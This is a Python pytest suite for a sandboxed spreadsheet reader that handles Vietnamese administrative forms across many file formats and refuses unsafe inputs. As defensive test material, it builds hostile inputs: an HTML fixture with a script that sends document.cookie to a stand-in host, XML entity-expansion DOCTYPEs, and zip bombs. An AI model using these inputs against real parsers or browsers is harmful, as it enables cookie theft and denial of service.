"""Tests for etl/readers.py and etl/sandbox.py; every file read here is built by the test itself."""

from __future__ import annotations

import csv
import datetime as dt
import io
import os
import pickle
import random
import re
import string
import unicodedata
import zipfile
from pathlib import Path

import openpyxl
import pytest

import labels
from etl import readers, sandbox
from etl.demo.biff import biff8_workbook as _biff8_workbook
from etl.demo.biff import ole_file as _ole_file
from etl.readers import ReadError, cell_ref, column_letter, read_workbook, sniff_format
from tests.hostile_corpus import patch_declared_size


@pytest.fixture(scope="module", autouse=True)
def _stop_worker():
    yield
    sandbox.shutdown()


def _read(path: Path, **kwargs) -> readers.Workbook:
    return read_workbook(path, isolated=False, **kwargs)


def _refusal(path: Path, *, isolated: bool = False) -> ReadError:
    with pytest.raises(ReadError) as info:
        read_workbook(path, isolated=isolated)
    assert info.value.message.startswith(f"Tệp {path.name}:")
    assert "Cách sửa" in info.value.message
    return info.value


# --- Builders -----------------------------------------------------------------------------------
def _form_xlsx(path: Path) -> Path:
    """A CCHC self-assessment form as a program writes it: merged title and header, no cached values."""
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "Bảng 1"
    ws["A1"] = "UBND HUYỆN HỮU LŨNG"
    ws.merge_cells("A1:E1")
    ws["A3"] = "STT"
    ws.merge_cells("A3:A4")
    ws["B3"] = "Điểm\nTĐG"
    ws.merge_cells("B3:C3")
    ws["B4"] = "Tối đa"
    ws["C4"] = "Tự đánh giá"
    ws.append(["1.1", 2, 1.5, dt.date(2023, 2, 15), True])
    ws.append(["1.2", 0.5, "0,5", dt.datetime(2023, 11, 30, 8, 15), None])
    ws["B7"] = "=SUM(B5:B6)"
    ws["C7"] = '=IF(C5>1,"Đạt","x")'
    wb.create_sheet("Ghi chú")["B2"] = "Không áp dụng"
    wb.save(path)
    return path


def _rewrite_zip(src: Path, dst: Path, edits: dict[str, object]) -> Path:
    """Copy a zip, replacing members (bytes) or transforming them (callable on bytes)."""
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            data = zin.read(info.filename)
            edit = edits.pop(info.filename, None)
            if callable(edit):
                data = edit(data)
            elif edit is not None:
                data = edit
            zout.writestr(info.filename, data)
        for name, data in edits.items():
            zout.writestr(name, data)
    return dst


_TONES = {"\u0300", "\u0301", "\u0303", "\u0309", "\u0323"}


def _to_cp1258(text: str) -> bytes:
    """Encode Vietnamese the way Windows-1258 does: precomposed base letter plus a combining tone."""
    out = bytearray()
    for ch in text:
        try:
            out += ch.encode("cp1258")
        except UnicodeEncodeError:
            parts = unicodedata.normalize("NFD", ch)
            tone = "".join(p for p in parts if p in _TONES)
            base = unicodedata.normalize("NFC", "".join(p for p in parts if p not in _TONES))
            out += (base + tone).encode("cp1258")
    return bytes(out)


# --- Cell references ----------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("col", "letters"),
    [
        (0, "A"),
        (1, "B"),
        (25, "Z"),
        (26, "AA"),
        (27, "AB"),
        (51, "AZ"),
        (52, "BA"),
        (701, "ZZ"),
        (702, "AAA"),
    ],
)
def test_column_letter(col, letters):
    assert column_letter(col) == letters
    assert readers._column_index(letters) == col


def test_cell_ref_edges():
    assert cell_ref(6, 1) == "B7"
    assert cell_ref(0, 0) == "A1"
    assert cell_ref(1048575, 16383) == "XFD1048576"
    assert readers._parse_ref("$AB$12") == (11, 27)
    with pytest.raises(ValueError):
        column_letter(-1)
    with pytest.raises(ValueError):
        cell_ref(-1, 0)


# --- xlsx / xlsm --------------------------------------------------------------------------------
def test_xlsx_merged_header_and_uncached_formulas(tmp_path):
    wb = _read(_form_xlsx(tmp_path / "tu_danh_gia.xlsx"))
    assert (wb.file_name, wb.file_format) == ("tu_danh_gia.xlsx", "xlsx")
    assert [s.name for s in wb.sheets] == ["Bảng 1", "Ghi chú"]
    sheet = wb.sheets[0]
    assert sheet.rows[0][0] == "UBND HUYỆN HỮU LŨNG"
    assert sheet.rows[1] == [None] * len(sheet.rows[1])
    assert sheet.rows[2][:3] == ["STT", "Điểm\nTĐG", None]
    assert sheet.rows[3][:3] == [None, "Tối đa", "Tự đánh giá"]
    assert sheet.rows[4] == ["1.1", 2, 1.5, dt.date(2023, 2, 15), True]
    assert type(sheet.rows[4][1]) is int
    assert sheet.rows[5][:4] == ["1.2", 0.5, "0,5", dt.datetime(2023, 11, 30, 8, 15)]
    assert sheet.rows[6][1:3] == [None, None]  # formulas without a cached value
    assert set(sheet.merged) == {(0, 0, 0, 4), (2, 0, 3, 0), (2, 1, 2, 2)}
    assert sheet.uncached_formulas == {(6, 1): "=SUM(B5:B6)", (6, 2): '=IF(C5>1,"Đạt","x")'}
    assert wb.sheets[1].rows[1] == [None, "Không áp dụng"]
    assert wb.sheets[1].merged == () and wb.sheets[1].uncached_formulas == {}


def test_xlsx_isolated_matches_in_process(tmp_path):
    path = _form_xlsx(tmp_path / "form.xlsx")
    assert read_workbook(path) == _read(path)
    assert read_workbook(path, display_name="Mẫu 01 - xã A.xlsx").file_name == "Mẫu 01 - xã A.xlsx"


def test_xlsm_detected_from_content_types(tmp_path):
    src = _form_xlsx(tmp_path / "src.xlsx")
    macro = b"application/vnd.ms-excel.sheet.macroEnabled.main+xml"
    dst = _rewrite_zip(
        src,
        tmp_path / "bao_cao.xlsx",  # the name says xlsx: the content decides
        {
            "[Content_Types].xml": lambda d: d.replace(
                b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml", macro
            ),
            "xl/vbaProject.bin": b"\0" * 64,
        },
    )
    assert sniff_format(dst) == "xlsm"
    wb = _read(dst)
    assert wb.file_format == "xlsm"
    assert wb.sheets[0].uncached_formulas[(6, 1)] == "=SUM(B5:B6)"


def test_shared_formula_dependents_are_translated(tmp_path):
    wb = openpyxl.Workbook()
    wb.active.append([1, 2])
    src = tmp_path / "src.xlsx"
    wb.save(src)
    rows = (
        b'<row r="2"><c r="C2"><f t="shared" ref="C2:C4" si="0">A2+B2</f></c></row>'
        b'<row r="3"><c r="C3"><f t="shared" si="0"/><v></v></c></row>'
        b'<row r="4"><c r="C4"><f t="shared" si="0"/><v>7</v></c></row></sheetData>'
    )
    dst = _rewrite_zip(
        src,
        tmp_path / "shared.xlsx",
        {"xl/worksheets/sheet1.xml": lambda d: d.replace(b"</sheetData>", rows)},
    )
    assert _read(dst).sheets[0].uncached_formulas == {(1, 2): "=A2+B2", (2, 2): "=A3+B3"}


def test_namespace_prefixed_sheet_xml(tmp_path):
    """The .NET Open XML SDK writes <x:c>, <x:f> and <x:mergeCell>: the scan must still find them."""
    src = _form_xlsx(tmp_path / "src.xlsx")

    def prefix(data: bytes) -> bytes:
        data = re.sub(rb"<(/?)([A-Za-z]+)", rb"<\1x:\2", data)
        return data.replace(b"<x:worksheet xmlns=", b"<x:worksheet xmlns:x=", 1)

    path = _rewrite_zip(src, tmp_path / "sdk.xlsx", {"xl/worksheets/sheet1.xml": prefix})
    assert b"<x:c " in zipfile.ZipFile(path).read("xl/worksheets/sheet1.xml")
    sheet = _read(path).sheets[0]
    assert sheet.uncached_formulas[(6, 1)] == "=SUM(B5:B6)"
    assert (2, 1, 2, 2) in sheet.merged
    assert sheet.rows[4] == ["1.1", 2, 1.5, dt.date(2023, 2, 15), True]


def test_ods_is_read(tmp_path):
    content = (
        '<?xml version="1.0" encoding="UTF-8"?><office:document-content '
        'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
        'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
        'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2">'
        '<office:body><office:spreadsheet><table:table table:name="Xã">'
        '<table:table-row><table:table-cell office:value-type="string"><text:p>Tiêu chí</text:p>'
        '</table:table-cell><table:table-cell office:value-type="float" office:value="0.5"><text:p>0,5</text:p>'
        "</table:table-cell></table:table-row></table:table></office:spreadsheet></office:body>"
        "</office:document-content>"
    )
    path = tmp_path / "bang.ods"
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet", zipfile.ZIP_STORED)
        zf.writestr("content.xml", content)
        zf.writestr(
            "META-INF/manifest.xml",
            '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
            '<manifest:file-entry manifest:full-path="/" '
            'manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/></manifest:manifest>',
        )
    wb = _read(path)
    assert wb.file_format == "ods"
    assert wb.sheets[0].name == "Xã" and wb.sheets[0].rows == [["Tiêu chí", 0.5]]


# --- Huge <dimension> ---------------------------------------------------------------------------
def test_huge_dimension_without_far_cells_reads_normally(tmp_path):
    src = _form_xlsx(tmp_path / "src.xlsx")
    dst = _rewrite_zip(
        src,
        tmp_path / "dim.xlsx",
        {
            "xl/worksheets/sheet1.xml": lambda d: d.replace(
                b'<dimension ref="A1:E7"/>', b'<dimension ref="A1:XFD1048576"/>'
            )
        },
    )
    assert b"XFD1048576" in zipfile.ZipFile(dst).read("xl/worksheets/sheet1.xml")
    assert read_workbook(dst).sheets == _read(src).sheets


@pytest.mark.parametrize("dimension", [b"A1:XFD1048576", b"A1:E7"])  # Excel's, and one that lies
def test_value_in_xfd1048576_is_streamed_not_crashed(tmp_path, dimension):
    """calamine would try to allocate 17 billion cells and abort the process."""
    src = _form_xlsx(tmp_path / "src.xlsx")
    far = b'<row r="1048576"><c r="XFD1048576" t="n"><v>1</v></c></row></sheetData>'
    dst = _rewrite_zip(
        src,
        tmp_path / "far.xlsx",
        {
            "xl/worksheets/sheet1.xml": lambda d: d.replace(
                b'<dimension ref="A1:E7"/>', b'<dimension ref="' + dimension + b'"/>'
            ).replace(b"</sheetData>", far)
        },
    )
    sheet = _read(dst).sheets[0]
    assert len(sheet.rows) == 1048576
    assert sheet.rows[-1][16383] == 1 and len(sheet.rows[-1]) == 16384
    assert sheet.rows[4] == ["1.1", 2, 1.5, dt.datetime(2023, 2, 15), True]
    assert set(sheet.merged) == {(0, 0, 0, 4), (2, 0, 3, 0), (2, 1, 2, 2)}
    assert sheet.uncached_formulas[(6, 1)] == "=SUM(B5:B6)"


def test_streaming_path_with_lowered_limit(tmp_path, monkeypatch):
    monkeypatch.setattr(readers, "MAX_CALAMINE_CELLS", 10)
    sheet = _read(_form_xlsx(tmp_path / "f.xlsx")).sheets[0]
    assert sheet.rows[2] == ["STT", "Điểm\nTĐG"]  # streamed rows end at their last value
    assert (2, 1, 2, 2) in sheet.merged


# --- Real BIFF .xls -----------------------------------------------------------------------------
def _xls_bytes(*, encrypted: bool = False) -> bytes:
    cells = {
        (0, 0): "UBND huyện Cao Lộc",
        (2, 0): "STT",
        (2, 1): "Điểm TĐG",
        (2, 2): "Ngày",
        (3, 0): 1,
        (3, 1): 0.5,
        (3, 2): dt.date(2023, 12, 5),
        (4, 0): 2,
        (4, 1): 14.5,
        (4, 3): True,
    }
    return _ole_file({"Workbook": _biff8_workbook([("Bảng 2", cells, [(0, 0, 0, 3)])], encrypted=encrypted)})


def test_biff_xls(tmp_path):
    path = tmp_path / "cao_loc.xls"
    path.write_bytes(_xls_bytes())
    assert sniff_format(path) == "xls"
    wb = read_workbook(path)
    assert wb.file_format == "xls"
    sheet = wb.sheets[0]
    assert sheet.name == "Bảng 2"
    assert sheet.rows[0][0] == "UBND huyện Cao Lộc"
    assert sheet.rows[2][:3] == ["STT", "Điểm TĐG", "Ngày"]
    assert sheet.rows[3][:3] == [1, 0.5, dt.date(2023, 12, 5)]
    assert sheet.rows[4] == [2, 14.5, None, True]
    assert sheet.merged == ((0, 0, 0, 3),)


def test_xlrd_fallback_reads_the_same_biff(tmp_path):
    path = tmp_path / "b.xls"
    path.write_bytes(_xls_bytes())
    sheet = readers._read_xls_xlrd(path, "b.xls")[0]
    assert sheet.rows[3][:2] == [1, 0.5] and sheet.rows[3][2] == dt.datetime(2023, 12, 5)


def test_encrypted_biff_filepass(tmp_path):
    path = tmp_path / "mat_khau.xls"
    path.write_bytes(_xls_bytes(encrypted=True))
    assert _refusal(path).rule == "read.encrypted"


def test_encrypted_ooxml_in_ole(tmp_path):
    path = tmp_path / "bao_mat.xlsx"
    path.write_bytes(
        _ole_file({"EncryptionInfo": b"\x04\x00\x04\x00" + b"\0" * 60, "EncryptedPackage": b"\1" * 5000})
    )
    error = _refusal(path)
    assert error.rule == "read.encrypted"
    assert "mật khẩu" in error.message


def test_word_97_in_ole(tmp_path):
    path = tmp_path / "cong_van.xls"
    path.write_bytes(_ole_file({"WordDocument": b"\xec\xa5" + b"\0" * 100}))
    assert _refusal(path).rule == "read.word"


# --- HTML tables (".xls" from portals) ----------------------------------------------------------
_HTML_TABLE = """<html><head>{meta}<title>Kết quả</title></head><body>
<table border="1"><caption>Kết quả đánh giá</caption>
<tr><th rowspan="2">STT</th><th colspan="2">Điểm</th></tr>
<tr><th>TĐG</th><th>Thẩm&nbsp;định<br>(lần 1)</th></tr>
<tr><td>1</td><td>  0,5 </td><td>1</td></tr>
<tr><td>2</td><td colspan="2" rowspan="5">Không áp dụng</td></tr>
</table>
<table><tbody><tr><td>Người lập: Nguyễn Văn Hữu</td></tr></tbody></table>
<table><tr><td> </td></tr></table>
</body></html>"""


@pytest.mark.parametrize(
    ("meta", "encode", "encoding"),
    [
        ('<meta http-equiv="Content-Type" content="text/html; charset=windows-1258">', _to_cp1258, "cp1258"),
        ('<meta charset="utf-8">', lambda t: t.encode("utf-8"), "utf-8"),
        ("", lambda t: t.encode("utf-8"), "utf-8"),
        ("", _to_cp1258, "cp1258"),
        ('<meta charset="utf-8">', _to_cp1258, "cp1258"),  # a meta that lies
        ("", lambda t: t.encode("utf-16"), "utf-16-le"),
    ],
)
def test_html_disguised_as_xls(tmp_path, meta, encode, encoding):
    path = tmp_path / "xuat_tu_cong.xls"
    path.write_bytes(encode(_HTML_TABLE.format(meta=meta)))
    assert sniff_format(path) == "html"
    wb = _read(path)
    assert (wb.file_format, wb.encoding) == ("html", encoding)
    assert [s.name for s in wb.sheets] == ["Kết quả đánh giá", "Bảng 2"]
    table = wb.sheets[0]
    assert table.rows == [
        ["STT", "Điểm", None],
        [None, "TĐG", "Thẩm định (lần 1)"],
        ["1", "0,5", "1"],
        ["2", "Không áp dụng", None],
    ]
    assert table.merged == ((0, 0, 1, 0), (0, 1, 0, 2), (3, 1, 3, 2))
    assert wb.sheets[1].rows == [["Người lập: Nguyễn Văn Hữu"]]
    assert unicodedata.is_normalized("NFC", table.rows[1][2])


def test_html_without_tables(tmp_path):
    path = tmp_path / "trang.xls"
    path.write_bytes(
        b"<!DOCTYPE html><html><body><p>Phi\xc3\xaan l\xc3\xa0m vi\xe1\xbb\x87c \xc4\x91\xc3\xa3 h\xe1\xba\xbft</p></body></html>"
    )
    assert _refusal(path).rule == "read.no_table"


def test_html_script_text_is_not_a_cell(tmp_path):
    path = tmp_path / "dvc.xls"
    path.write_text(
        "<html><head><script>alert('đầu trang')</script><style>td{color:red}</style></head><body><table>"
        "<tr><td>Đơn vị<script>fetch('https://x.example/?c='+document.cookie)</script> A</td><td>1</td></tr>"
        "</table></body></html>",
        encoding="utf-8",
    )
    assert _read(path).sheets[0].rows == [["Đơn vị A", "1"]]


def test_html_cut_short_by_a_parser_limit_is_refused(tmp_path):
    """libxml2 stops at 256 levels of nesting and keeps what it had: the last row would be lost."""
    path = tmp_path / "long_nhau.xls"
    path.write_text(
        "<html><body><table><tr><td>1</td><td>" + "<div>" * 300 + "x</td></tr><tr><td>2</td></tr></table>",
        encoding="utf-8",
    )
    error = _refusal(path)
    assert error.rule == "read.html_incomplete"
    assert "lồng nhau quá sâu" in error.message


def test_xml_spreadsheet_2003(tmp_path):
    xml = """<?xml version="1.0" encoding="UTF-8"?>
<?mso-application progid="Excel.Sheet"?>
<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet" xmlns:ss="urn:schemas-microsoft-com:office:spreadsheet"
 xmlns:html="http://www.w3.org/TR/REC-html40">
<Worksheet ss:Name="Tổng hợp"><Table>
<Row><Cell ss:MergeAcross="2"><Data ss:Type="String">UBND tỉnh Lạng Sơn</Data></Cell></Row>
<Row ss:Index="3"><Cell><Data ss:Type="Number">1</Data></Cell><Cell ss:Index="3"><Data ss:Type="Number">0.5</Data></Cell>
<Cell><Data ss:Type="DateTime">2023-02-15T00:00:00.000</Data></Cell><Cell><Data ss:Type="Boolean">1</Data></Cell></Row>
</Table></Worksheet></Workbook>"""
    path = tmp_path / "xml2003.xls"
    path.write_bytes(xml.encode("utf-8"))
    assert sniff_format(path) == "xml2003"
    sheet = _read(path).sheets[0]
    assert sheet.name == "Tổng hợp"
    assert sheet.rows == [["UBND tỉnh Lạng Sơn"], [], [1, None, 0.5, dt.date(2023, 2, 15), True]]
    assert sheet.merged == ((0, 0, 0, 2),)


def test_xml_spreadsheet_2003_with_entities_is_refused(tmp_path):
    xml = (
        '<?xml version="1.0"?><!DOCTYPE lol [<!ENTITY lol "lol">]>'
        '<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"><Worksheet/></Workbook>'
    )
    path = tmp_path / "x.xml"
    path.write_text(xml)
    assert _refusal(path).rule == "read.xml_entities"


# --- CSV ----------------------------------------------------------------------------------------
_CSV_ROWS = [
    ["STT", "Đơn vị", "Điểm TĐG", "Ghi chú"],
    ["1", "UBND xã Hữu Lũng", "0,5", 'Quyết định số 123/QĐ-UBND; "khẩn"'],
    ["2", "Phường Đông Kinh", "14,5", "dòng 1\ndòng 2"],
    ["3", "Thị trấn Lộc Bình", "91,43%", ""],
    ["4", "Xã Khánh Xuân, Đồng Bục", "1.250", "Rất hài lòng\tBình thường"],
]
_ENCODERS = {
    "utf-8": lambda t: t.encode("utf-8"),
    "utf-8-sig": lambda t: t.encode("utf-8-sig"),
    "utf-16-le": lambda t: t.encode("utf-16"),  # BOM + little endian, as Excel's "Unicode text"
    "utf-16-be": lambda t: codecs_bom_be(t),
    "utf-16-le-nobom": lambda t: t.encode("utf-16-le"),
    "cp1258": _to_cp1258,
}


def codecs_bom_be(text: str) -> bytes:
    return b"\xfe\xff" + text.encode("utf-16-be")


@pytest.mark.parametrize("encoding", sorted(_ENCODERS))
@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_csv_encodings_and_delimiters(tmp_path, encoding, delimiter):
    buffer = io.StringIO()
    csv.writer(buffer, delimiter=delimiter, lineterminator="\r\n").writerows(_CSV_ROWS)
    path = tmp_path / "phan_hoi.txt"
    path.write_bytes(_ENCODERS[encoding](buffer.getvalue()))
    assert sniff_format(path) == "csv"
    wb = _read(path)
    assert (wb.file_format, wb.delimiter) == ("csv", delimiter)
    assert wb.encoding == encoding.replace("-nobom", "")
    assert wb.sheets[0].name == "CSV"
    expected = [[v or None for v in row] for row in _CSV_ROWS]
    assert wb.sheets[0].rows == expected


def test_csv_semicolon_with_decimal_comma_in_every_row(tmp_path):
    path = tmp_path / "diem.csv"
    path.write_text("Đơn vị;Điểm\nXã A;0,5\nXã B;1,5\nXã C;2,25\n", encoding="utf-8")
    wb = _read(path)
    assert wb.delimiter == ";"
    assert wb.sheets[0].rows[1] == ["Xã A", "0,5"]


def test_csv_sep_hint_and_title_rows(tmp_path):
    path = tmp_path / "mau02.csv"
    path.write_text("sep=;\nKẾT QUẢ ĐÁNH GIÁ\n\nA;B;C\n1;2;3\n", encoding="utf-8")
    wb = _read(path)
    assert wb.delimiter == ";"
    assert wb.sheets[0].rows == [["KẾT QUẢ ĐÁNH GIÁ"], [], ["A", "B", "C"], ["1", "2", "3"]]


def test_csv_mostly_utf8_with_a_broken_byte_stays_utf8(tmp_path):
    text = "Đơn vị,Điểm\n" + "".join(f"Xã Hữu Lũng {i},0.5\n" for i in range(30))
    path = tmp_path / "cut.csv"
    path.write_bytes(text.encode("utf-8") + b"X\xe1\xbb")  # cut in the middle of a character
    wb = _read(path)
    assert wb.encoding == "utf-8"
    assert wb.sheets[0].rows[1] == ["Xã Hữu Lũng 0", "0.5"]


def test_csv_large_is_fast_enough(tmp_path):
    rng = random.Random(7)
    lines = ["ma_ho_so;can_bo;muc_do"] + [
        f"{i};Cán bộ {rng.randint(1, 40)};{rng.choice(['Rất hài lòng', 'Hài lòng', 'Không hài lòng'])}"
        for i in range(20000)
    ]
    path = tmp_path / "kiosk.csv"
    path.write_text("\n".join(lines), encoding="utf-8-sig")
    rows = _read(path).sheets[0].rows
    assert len(rows) == 20001 and rows[0] == ["ma_ho_so", "can_bo", "muc_do"]


# --- Refusals -----------------------------------------------------------------------------------
def test_empty_file(tmp_path):
    path = tmp_path / "rong.xlsx"
    path.write_bytes(b"")
    assert _refusal(path).rule == "read.empty"


def test_pdf(tmp_path):
    path = tmp_path / "bao_cao.xlsx"
    path.write_bytes(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n")
    error = _refusal(path)
    assert error.rule == "read.pdf"
    assert "PDF, không phải bảng tính" in error.message


def test_docx(tmp_path):
    path = tmp_path / "to_trinh.xlsx"
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr("[Content_Types].xml", "<Types/>")
        zf.writestr("word/document.xml", "<w:document/>")
    assert _refusal(path).rule == "read.word"


def test_zip_that_is_not_a_workbook(tmp_path):
    path = tmp_path / "minh_chung.zip"
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr("QD-123.pdf", b"%PDF-1.4")
    assert _refusal(path).rule == "read.zip_not_workbook"


def test_truncated_zip(tmp_path):
    data = _form_xlsx(tmp_path / "full.xlsx").read_bytes()
    path = tmp_path / "tai_do.xlsx"
    path.write_bytes(data[: len(data) // 2])
    assert _refusal(path).rule == "read.damaged_zip"


def test_image(tmp_path):
    path = tmp_path / "anh_chup.xls"
    path.write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(100))
    assert _refusal(path).rule == "read.image"


def test_unknown_binary(tmp_path):
    rng = random.Random(3)
    path = tmp_path / "la.xls"
    path.write_bytes(bytes(rng.randrange(256) for _ in range(4000)))
    assert _refusal(path).rule == "read.unknown_format"


def test_unreadable_text_encoding(tmp_path):
    path = tmp_path / "ma_la.csv"
    path.write_bytes(b"a;b\n\x81\x8d\x8f;\x90\x9d\n")  # undefined in both UTF-8 and Windows-1258
    assert _refusal(path).rule == "read.encoding"


def test_workbook_without_data(tmp_path):
    path = tmp_path / "trong.xlsx"
    openpyxl.Workbook().save(path)
    assert _refusal(path).rule == "read.no_data"


def test_csv_of_only_blanks_has_no_data(tmp_path):
    path = tmp_path / "trang.csv"
    path.write_bytes("  \r\n\t\t\r\n \u00a0  \r\n".encode())  # spaces, tabs, a no-break space
    assert _refusal(path).rule == "read.no_data"


@pytest.mark.parametrize("kind", ["symlink", "fifo"])
def test_links_and_special_files_are_refused_unread(tmp_path, kind):
    target = tmp_path / "that.csv"
    target.write_text("Tên hàng,Số lượng\nGạo,2\n", encoding="utf-8")
    path = tmp_path / "lien_ket.csv"
    os.symlink(target, path) if kind == "symlink" else os.mkfifo(path)
    # Opening a FIFO for reading waits for a writer forever: the refusal must come first. The time
    # limit turns that wait, without the check, into a failure rather than a hung test.
    with pytest.raises(ReadError) as info:
        sandbox.read_isolated(path, path.name, timeout=10)
    assert info.value.rule == "read.not_regular_file"
    assert info.value.message.startswith("Tệp lien_ket.csv: đây là liên kết")


def test_zip_bomb_by_declared_size(tmp_path):
    data = _form_xlsx(tmp_path / "f.xlsx").read_bytes()
    path = tmp_path / "bom.xlsx"
    path.write_bytes(patch_declared_size(data, "xl/worksheets/sheet1.xml", 0xF0000000))
    error = _refusal(path)
    assert error.rule == "read.zip_bomb"


def test_zip_bomb_by_ratio(tmp_path, monkeypatch):
    monkeypatch.setattr(readers, "ZIP_RATIO_MIN_BYTES", 64 * 1024)
    src = _form_xlsx(tmp_path / "f.xlsx")
    path = _rewrite_zip(src, tmp_path / "nen.xlsx", {"xl/media/zeros.bin": bytes(2 * 1024 * 1024)})
    assert _refusal(path).rule == "read.zip_bomb"


@pytest.mark.parametrize("member", ["xl/worksheets/sheet1.xml", "xl/styles.xml"])
def test_xml_entities_are_refused(tmp_path, member):
    src = _form_xlsx(tmp_path / "f.xlsx")
    doctype = b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>'

    def inject(data: bytes) -> bytes:
        end = data.find(b"?>") + 2 if data.startswith(b"<?xml") else 0
        return data[:end] + doctype + data[end:]

    path = _rewrite_zip(src, tmp_path / "entity.xlsx", {member: inject})
    error = _refusal(path)
    assert error.rule == "read.xml_entities"
    assert member in error.message


_LAUGH = b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>'


@pytest.mark.parametrize(
    ("prolog", "encoding"),
    [
        (b"<!-- <worksheet/> -->", "utf-8"),  # an element inside a comment is not the root
        (b"<!--" + b"x" * 100_000 + b"-->", "utf-8"),  # beyond a fixed-size look at the head
        (b"<?pi <worksheet/> ?>", "utf-8"),
        ("<!-- \u2d2d> <worksheet/> -->".encode("utf-8"), "utf-16"),  # U+2D2D then ">": "-->" without NULs
    ],
    ids=["element-in-comment", "long-comment", "element-in-pi", "utf16-dash-pair"],
)
def test_doctype_behind_a_comment_is_refused(tmp_path, prolog, encoding):
    src = _form_xlsx(tmp_path / "f.xlsx")
    member = "xl/worksheets/sheet1.xml"

    def inject(data: bytes) -> bytes:
        text = data.decode("utf-8")
        end = text.find("?>") + 2 if text.startswith("<?xml") else 0
        hidden = text[:end] + (prolog + _LAUGH).decode("utf-8") + text[end:]
        return hidden.encode(encoding)

    path = _rewrite_zip(src, tmp_path / "an.xlsx", {member: inject})
    error = _refusal(path)
    assert (error.rule, member in error.message) == ("read.xml_entities", True)


def test_prolog_longer_than_any_writer_makes_is_refused(tmp_path):
    src = _form_xlsx(tmp_path / "f.xlsx")
    rng = random.Random(11)  # letters that do not compress: a run of one letter would be a zip bomb
    filler = "".join(rng.choice(string.ascii_letters) for _ in range(readers._MAX_PROLOG_BYTES + 1))
    comment = b"<!--" + filler.encode() + b"-->"
    path = _rewrite_zip(src, tmp_path / "dai.xlsx", {"xl/styles.xml": lambda d: comment + d})
    assert _refusal(path).rule == "read.xml_prolog_too_long"


def test_comments_before_the_root_are_accepted(tmp_path):
    src = _form_xlsx(tmp_path / "f.xlsx")
    note = b"<!-- written by a tool: <b>bold</b> -->"
    path = _rewrite_zip(src, tmp_path / "chu_thich.xlsx", {"xl/styles.xml": lambda d: note + d})
    assert _read(path).sheets[0].rows[0][0] == "UBND HUYỆN HỮU LŨNG"


def test_too_large_file(tmp_path, monkeypatch):
    monkeypatch.setattr(readers, "MAX_FILE_BYTES", 100)
    path = tmp_path / "lon.csv"
    path.write_text("a,b\n" * 100)
    assert _refusal(path).rule == "read.file_too_large"


def test_missing_file(tmp_path):
    with pytest.raises(ReadError) as info:
        _read(tmp_path / "khong_co.xlsx")
    assert info.value.rule == "read.io_error"


# --- Isolation ----------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("crash", "rule", "kwargs"),
    [
        ("abort", "read.crashed", {}),
        ("exit", "read.crashed", {}),
        ("memory", "read.too_large", {}),
        ("sleep", "read.timeout", {"timeout": 1.0}),
        ("cpu", "read.timeout", {"cpu_seconds": 1}),
    ],
)
def test_isolated_worker_failures_become_read_errors(tmp_path, crash, rule, kwargs):
    path = _form_xlsx(tmp_path / "x.xlsx")
    with pytest.raises(ReadError) as info:
        sandbox.read_isolated(path, "Xã A.xlsx", _crash_for_test=crash, **kwargs)
    assert info.value.rule == rule
    assert "Xã A.xlsx" in info.value.message
    # The parent survived and the next file is read by a fresh worker.
    assert read_workbook(path).sheets[0].rows[0][0] == "UBND HUYỆN HỮU LŨNG"


def test_real_calamine_abort_is_contained(tmp_path):
    """Rows out of order hide the far cell from the pre-scan: calamine aborts, the parent survives."""
    src = _form_xlsx(tmp_path / "src.xlsx")
    far = b'<sheetData><row r="1048576"><c r="XFD1048576" t="n"><v>1</v></c></row>'
    path = _rewrite_zip(
        src, tmp_path / "loi.xlsx", {"xl/worksheets/sheet1.xml": lambda d: d.replace(b"<sheetData>", far)}
    )
    error = _refusal(path, isolated=True)
    assert error.rule == "read.too_large"  # "memory allocation of … bytes failed" on stderr
    assert read_workbook(src).sheets[0].rows[0][0] == "UBND HUYỆN HỮU LŨNG"


def test_isolated_refusal_carries_rule_and_message(tmp_path):
    path = tmp_path / "bao_cao.xlsx"
    path.write_bytes(b"%PDF-1.4 ...")
    error = _refusal(path, isolated=True)
    assert error.rule == "read.pdf"


def test_worker_is_reused_and_shut_down(tmp_path):
    path = _form_xlsx(tmp_path / "x.xlsx")
    read_workbook(path)
    worker = sandbox._worker
    read_workbook(path)
    assert sandbox._worker is worker
    sandbox.shutdown()
    assert sandbox._worker is None and worker.proc.poll() is not None


def test_reply_unpickler_refuses_other_globals():
    payload = pickle.dumps(("ok", print))
    with pytest.raises(pickle.UnpicklingError):
        sandbox._RestrictedUnpickler(io.BytesIO(payload)).load()


# --- Messages -----------------------------------------------------------------------------------
def test_every_read_message_names_the_file_and_the_fix():
    from labels import messages_read

    for rule, template in messages_read.MESSAGES.items():
        if rule == "read.html_table_name":
            continue
        assert template.startswith("Tệp {file}:"), rule
        assert "Cách sửa:" in template, rule
        fields = {name for _, name, _, _ in string.Formatter().parse(template) if name}
        assert labels.msg(rule, **dict.fromkeys(fields, "x"))


def test_read_error_pickles():
    error = readers._fail("read.encrypted", "a.xlsx")
    copy = pickle.loads(pickle.dumps(error))
    assert (copy.rule, copy.message) == (error.rule, error.message)
